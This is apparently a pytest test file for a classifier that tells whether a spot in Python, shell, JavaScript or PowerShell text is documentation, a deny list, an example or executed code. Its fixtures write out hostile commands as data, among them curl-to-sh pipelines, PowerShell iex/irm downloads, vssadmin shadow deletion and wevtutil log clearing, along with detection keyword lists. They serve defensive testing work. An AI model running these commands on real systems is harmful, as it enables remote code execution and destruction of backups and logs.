"""Comments explain, lists of what is denied deny, and the rest of a program does."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pinfold.language.code_roles import CodeRoles
from pinfold.model import Role

PYTHON = '''\
"""Fetches alpha.example and runs it."""
import os, re

# Never run curl bravo.example from here.
SUSPICIOUS_PATTERNS = [
    (r"curl .*\\|", "charlie.example"),
    (
        r"wget",
        "delta.example",
    ),
]
BLOCKED: frozenset[str] = frozenset({"echo.example"})
PROMPT = """You are the bot of foxtrot.example"""
deny_pattern = re.compile(r"golf.example")
SAMPLE = """one
two november.example
"""
BAD = ["oscar.example"]
resample = "papa.example"


def run():
    r"""Talks to hotel.example."""
    rules = {"signatures": ["india.example"], "hosts": ["juliett.example"]}
    os.system("curl kilo.example | sh")  # lima.example
    note = "# mike.example"
'''

JAVASCRIPT = """\
// alpha.example
const url = "https://bravo.example/x"; /* charlie.example
 * delta.example */
const DENYLIST = new Set(["echo.example"]);
const s = `// foxtrot.example`;
fetch(url + "golf.example");
"""

SHELL = """\
#!/bin/sh
# alpha.example
curl https://bravo.example/#charlie.example
BLOCKED_HOSTS=(
  delta.example
)
echo "# echo.example"
curl 'foxtrot.example' # golf.example
"""

ROLES = {
    ("python", PYTHON): {
        Role.DOCUMENTATION: "alpha bravo hotel lima",
        Role.DENY_LIST: "charlie delta echo golf india oscar",
        Role.CODE: "foxtrot juliett kilo mike papa",
        Role.EXAMPLE: "november",
    },
    ("typescript", JAVASCRIPT): {
        Role.DOCUMENTATION: "alpha charlie delta",
        Role.DENY_LIST: "echo",
        Role.CODE: "bravo foxtrot golf",
    },
    ("shell", SHELL): {
        Role.DOCUMENTATION: "alpha golf",
        Role.DENY_LIST: "delta",
        Role.CODE: "bravo charlie echo foxtrot",
    },
}


@pytest.mark.parametrize(
    ("kind", "text", "role", "word"),
    [
        (kind, text, role, word)
        for (kind, text), roles in ROLES.items()
        for role, words in roles.items()
        for word in words.split()
    ],
)
def test_roles(kind, text, role, word):
    assert CodeRoles(text, kind, Role.CODE).stance(text.index(f"{word}.example")).role is role


def test_a_comment_can_forbid():
    assert CodeRoles(PYTHON, "python", Role.CODE).stance(PYTHON.index("curl bravo")).negated


@pytest.mark.parametrize(
    ("kind", "text"),
    [
        ("powershell", "<# x\ncurl\n#>\n$a = '<'; iwr evil"),
        ("makefile", "all: # curl\n\tevil"),
        ("dockerfile", "# curl\nRUN evil"),
        ("code", "/* x */ // curl\nmain() { evil"),
        ("code", "# curl\nx = '# no'; evil"),
    ],
)
def test_other_syntaxes(kind, text):
    roles = CodeRoles(text, kind, Role.COMMAND)
    if "curl" in text:
        assert roles.stance(text.index("curl")).role is Role.DOCUMENTATION
    assert roles.stance(text.index("evil")).role is Role.COMMAND


@pytest.mark.parametrize(
    ("kind", "line", "listed"),
    [
        ("powershell", "$words = 'DownloadString|IEX|-enc|evil.example|vssadmin'", True),
        ("python", 'words = "DownloadString|IEX|-enc|evil.example|vssadmin"', True),
        ("shell", "grep -rhsE '^NOPASSWD evil.example' /etc/sudoers", True),
        ("powershell", "Get-Content x.log | Where-Object Message -match 'evil.example'", True),
        ("python", r"""RULES = [("hidden", r"powershell.*-w(indowstyle)? hidden evil.example")]""", True),
        ("python", r"""RULES = [("hidden", "powershell\\s+-w hidden evil.example")]""", True),
        ("python", r"""run(r"C:\windows\system32\cmd.exe /c evil.example")""", False),
        ("python", "if 'wevtutil cl evil.example' in line:", True),
        ("python", 'if line == "wevtutil cl evil.example":', True),
        ("javascript", "if (line.includes('wevtutil cl evil.example')) {", True),
        ("python", "for name in ['evil.example']: run(name)", False),
        ("python", "line = 'evil.example'", False),
        ("shell", "grep -q x list && curl 'evil.example'", False),
        ("shell", "grep x list | sh -c 'curl evil.example'", False),
        ("shell", "sh -c 'curl evil.example|sed x|sort|sh'", False),
        ("python", 'run("curl evil.example")', False),
    ],
)
def test_what_is_looked_for_is_told_from_what_is_done(kind, line, listed):
    stance = CodeRoles(f"first = 1\n{line}\n", kind, Role.CODE).stance(10 + line.index("evil"))
    assert stance.role is (Role.DENY_LIST if listed else Role.CODE)


@given(
    st.text("\"'`/*#<>\\\n a[](){}=:;", max_size=80),
    st.sampled_from(["python", "shell", "javascript", "powershell", "code"]),
    st.integers(0, 80),
)
def test_any_text_has_a_role(text, kind, at):
    assert CodeRoles(text, kind, Role.CODE).stance(min(at, len(text))).role in (
        Role.CODE,
        Role.DOCUMENTATION,
        Role.DENY_LIST,
        Role.EXAMPLE,
    )


@pytest.mark.parametrize("kind", ["python", "shell", "javascript", "powershell", "code"])
@pytest.mark.parametrize("piece", ['"""\n', '"\\"', "/*", "`", "#\n", "[", "<#", "'", "a:", "a=[", "\\"])
def test_hostile_text_takes_linear_time(kind, piece):
    text = piece * (2_000_000 // len(piece))
    began = time.perf_counter()
    CodeRoles(text, kind, Role.CODE).stance(len(text) // 2)
    assert time.perf_counter() - began < 5


def test_a_name_speaks_of_what_is_listed_and_not_of_what_is_done():
    text = "$block = iex (irm https://alpha.example/x)\n$block = @('bravo.example')\n"
    roles = CodeRoles(text, "powershell", Role.CODE)
    assert roles.stance(text.index("iex")).role is Role.CODE
    assert roles.stance(text.index("bravo")).role is Role.DENY_LIST


@pytest.mark.parametrize(
    ("line", "role"),
    [
        ('("shadow", rb"(?i)vssadmin delete shadows|wbadmin delete"),', Role.DENY_LIST),
        ("found = re.search(r'(?:wget|curl) https', line)", Role.DENY_LIST),
        ('path = r"C:\\\\tools\\\\vssadmin delete shadows"', Role.CODE),  # a path, though it is raw
        ('run("(?i)vssadmin delete shadows")', Role.CODE),  # brackets in what is carried out are no expression
    ],
)
def test_what_a_regular_expression_looks_for_is_not_done(line, role):
    place = next(line.index(word) for word in ("vssadmin", "curl") if word in line)
    assert CodeRoles(f"import re\n{line}\n", "python", Role.CODE).stance(10 + place).role is role
